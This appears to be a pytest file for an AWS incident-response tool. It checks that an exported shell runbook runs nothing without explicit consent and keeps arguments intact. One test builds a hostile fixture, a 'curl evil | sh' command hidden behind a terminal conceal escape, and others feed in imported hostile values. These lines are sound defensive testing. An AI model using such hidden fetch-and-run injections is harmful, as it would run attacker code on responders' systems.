"""The runbook, really run: nothing without a person's word, and then what was asked for, every argument as it was meant."""

import re
import shutil
import subprocess

import pytest

from investigator.actions.catalogue import Subject, catalogue, render
from investigator.domain.action import Action
from investigator.exporters.text import is_copyable
from tests.actions.aws_cli import Ran, Shell, variables_of
from tests.actions.test_catalogue import ODD, VALUES
from tests.support.bundles import exported
from tests.support.documents import actions, document
from tests.support.hostile import HOSTILE, poisoned

CASE = "ir-5b0c1f22a9d4"


def action(name: str, turn: int = 1, **values: str) -> Action:
    subject = Subject(on="x", account="111122223333", region="us-east-1", values={**VALUES, **values})
    return render(name, subject, CASE, ("f1",), turn)


def runbook(*told: Action) -> str:
    return exported("runbook", document(actions=told)).decode()


def run(folder, text: str, *asked: str) -> Ran:
    file = folder / "runbook.sh"
    file.write_text(text)
    return Shell(folder, variables=variables_of(text)).run(str(file), *asked)


def every_action() -> tuple[Action, ...]:
    return tuple(action(name, turn) for turn, name in enumerate(catalogue(), 1))


@pytest.mark.parametrize(
    "asked", [(), ("1",), ("save",), ("1", "destroy"), ("99", "change"), ("1:save",), ("", ""), ("*", "*"), ("1 save",), ("--help",), ("all",)]
)  # fmt: skip
def test_nothing_is_run_unless_a_step_and_its_part_are_named(asked, tmp_path):
    ran = run(tmp_path, runbook(*every_action()), *asked)

    assert ran.calls == ()
    assert "Nothing was run." in ran.said
    assert f"1 of {len(catalogue())}: SNAP (preserve) on x" in ran.said


@pytest.mark.parametrize("how", ["sh < runbook.sh", ". ./runbook.sh", "cat runbook.sh | sh -s"])
def test_a_runbook_that_is_sourced_or_pasted_runs_nothing_either(how, tmp_path):
    (tmp_path / "runbook.sh").write_text(runbook(*every_action()))

    assert Shell(tmp_path).run(how).calls == ()


@pytest.mark.parametrize("part", ["save", "change", "verify", "undo"])
def test_one_part_of_one_step_is_run_and_no_other(part, tmp_path):
    ran = run(tmp_path, runbook(action("KEY-OFF"), action("USER-DENY")), "1", part)

    [call] = ran.calls
    assert "list-access-keys" in call or "update-access-key" in call
    assert ("Active" in call) is (part == "undo")
    assert ("Inactive" in call) is (part == "change")


def test_undo_reads_what_save_kept(tmp_path):
    text = runbook(action("POLICY-UNDO-USER-INLINE"))
    assert run(tmp_path, text, "1", "undo").status == 0
    assert [one.complaint for one in run(tmp_path, text, "1", "undo").asked()] != [""]

    run(tmp_path, text, "1", "save")

    [put] = run(tmp_path, text, "1", "undo").asked()
    assert (put.complaint, put.operation) == ("", "iam:PutUserPolicy")


def test_an_action_that_cannot_be_undone_has_no_undo(tmp_path):
    text = runbook(action("EC2-TERM"))

    assert "# Undo: not reversible" in text
    assert run(tmp_path, text, "1", "undo").calls == ()


@pytest.mark.parametrize("value", [*filter(is_copyable, ODD)])
def test_every_argument_arrives_as_it_was_meant(value, tmp_path):
    """Names that a shell would take apart, as the whole argument; and what stands around them is untouched."""
    text = runbook(
        action("KEY-OFF", user=value), action("S3-BLOCK", bucket=value), action("SECRET-ROTATE", secret=value)
    )

    for step, (option, words) in enumerate(
        [("--user-name", "iam update-access-key"), ("--bucket", "s3api put-public-access-block"), ("--secret-id", "secretsmanager rotate-secret")], 1
    ):  # fmt: skip
        [(_, *call)] = run(tmp_path, text, str(step), "change").calls
        assert call[call.index(option) + 1] == value
        assert call[:2] == words.split()
    assert not (tmp_path / "owned").exists()


@pytest.mark.parametrize("name", catalogue())
def test_every_action_runs_from_the_runbook_as_it_does_by_itself(name, tmp_path):
    told = action(name)
    for before in re.findall(r"[\w-]+-before\.json", told.command):
        (tmp_path / before).write_text("{}")

    alone = Shell(tmp_path, variables=variables_of(told.command)).run(told.command)
    from_file = run(tmp_path, runbook(told), "1", "change")

    assert from_file.calls == alone.calls
    assert from_file.status == alone.status


def test_the_steps_stand_in_order_with_their_turns():
    text = runbook(action("SNAP", 1), action("KEY-OFF", 2), action("USER-DENY", 2), action("USER-REVOKE", 3))
    turns = [line for line in text.split("\n") if line.startswith("# == ")]

    assert turns == [
        "# == Turn 1: Step 1.",
        "# == Turn 2: Steps 2, 3, which may be run together, when all before is done.",
        "# == Turn 3: Step 4, when all before is done.",
    ]
    assert (
        text.index("step_2_save()")
        < text.index("step_2_change()")
        < text.index("step_2_verify()")
        < text.index("step_2_undo()")
    )


def test_a_document_of_systems_manager_is_offered_with_its_limits():
    text = runbook(action("USER-DENY"))

    assert "# The same with Systems Manager: AWSSupport-ContainIAMPrincipal" in text
    assert "# Limit: it cannot take a session by its ASIA key id alone" in text


def test_the_told_case_saves_before_it_changes():
    lines = exported("runbook", document()).decode().splitlines()

    assert lines.index(actions()[0].save) < lines.index(actions()[0].command)


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_of_a_case_becomes_a_line_of_the_runbook(text, tmp_path):
    commands = {
        "save": None,
        "command": "aws iam list-users",
        "verify": "aws iam list-users",
        "undo": "aws iam list-users",
        "automation": None,
    }
    plain = document(actions=tuple(one.model_copy(update=commands) for one in document().actions))
    told = poisoned(document(), text)
    harmless = told.model_copy(update={"actions": tuple(one.model_copy(update=commands) for one in told.actions)})

    def code(form: str) -> list[str]:
        return [line for line in form.split("\n") if line and not line.startswith("#")]

    out = exported("runbook", harmless).decode()
    assert code(out) == code(exported("runbook", plain).decode())
    assert run(tmp_path, out).calls == ()


def test_a_command_that_does_not_show_as_it_is_cannot_be_run(tmp_path):
    odd = actions()[0].model_copy(update={"command": "aws iam list-users\x1b[8m; curl evil | sh", "save": None})
    out = runbook(odd)
    ran = run(tmp_path, out, "1", "change")

    assert "\naws iam list-users\\x1b" not in out
    assert "# aws iam list-users\\x1b[8m; curl evil | sh" in out
    assert (ran.status, ran.calls) == (1, ())


@pytest.mark.parametrize("shell", ["sh", "bash", "dash"])
def test_every_shell_reads_it(shell, tmp_path):
    if shutil.which(shell) is None:
        pytest.skip(f"no {shell} here")
    file = tmp_path / "runbook.sh"
    file.write_text(runbook(*every_action()))

    assert subprocess.run([shell, "-n", str(file)], capture_output=True, check=False).stderr == b""
